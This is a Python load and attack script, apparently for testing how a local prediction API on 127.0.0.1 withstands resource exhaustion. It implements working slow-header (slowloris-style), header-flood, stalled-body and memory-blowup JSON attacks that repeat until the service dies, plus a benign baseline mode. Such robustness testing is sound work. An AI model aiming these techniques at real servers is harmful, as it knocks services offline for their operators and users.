"""Attacks the service on PORT over COUNT connections until it is killed: `python attack.py PORT COUNT KIND`.

The kind `good` is no attack: it posts what stands on its standard input, and waits for each answer.
"""

import asyncio
import json
import sys
from collections.abc import AsyncIterator
from contextlib import suppress
from functools import partial

HEAD = "POST /api/v1.0/predictions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
PART = b"x" * 65536


async def drip() -> AsyncIterator[bytes]:
    """A head that never ends, a byte at a time."""
    for sign in (HEAD + "cookie: " + "x" * 30_000).encode():
        yield bytes([sign])
        await asyncio.sleep(0.05)


async def heads() -> AsyncIterator[bytes]:
    """Headers without end, as fast as they are taken."""
    yield HEAD.encode()
    while True:
        yield b"x: y\r\n" * 10_000


async def held() -> AsyncIterator[bytes]:
    """A large body that stops before its end."""
    yield f"{HEAD}content-length: 8000000\r\n\r\n".encode()
    for _ in range(7_900_000 // len(PART)):
        yield PART
    await asyncio.sleep(60)


async def wide() -> AsyncIterator[bytes]:
    """A small body whose table would take gigabytes: thousands of rows, each with a column of its own."""
    yield f"{HEAD}content-length: {len(WIDE)}\r\n\r\n".encode() + WIDE
    while True:  # until the refusal has closed the connection
        yield b""
        await asyncio.sleep(0.01)


WIDE = json.dumps({"jsonData": [{f"c{row}": 1} for row in range(8000)]}).encode()
KINDS = {kind.__name__: kind for kind in (drip, heads, held, wide)}


async def drain(reader: asyncio.StreamReader) -> None:
    """Throw away what comes until the connection ends."""
    with suppress(OSError):
        while await reader.read(65536):
            pass


async def attack(port: int, kind: str) -> None:
    """Send, and begin again when the server closes."""
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            drained = asyncio.create_task(drain(reader))
            async for part in KINDS[kind]():
                if drained.done():
                    break
                writer.write(part)
                await writer.drain()
            drained.cancel()
            writer.close()
        await asyncio.sleep(0.01)


async def ask(port: int, body: bytes) -> None:
    """Ask the same again and again on one connection, each time after the answer."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    while True:
        writer.write(f"{HEAD}content-length: {len(body)}\r\n\r\n".encode() + body)
        head = await reader.readuntil(b"\r\n\r\n")
        await reader.readexactly(int(head.lower().partition(b"content-length: ")[2].split()[0]))


async def main(port: str, count: str, kind: str) -> None:
    body = sys.stdin.buffer.read()
    one = partial(ask, int(port), body) if kind == "good" else partial(attack, int(port), kind)
    await asyncio.gather(*(one() for _ in range(int(count))))


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
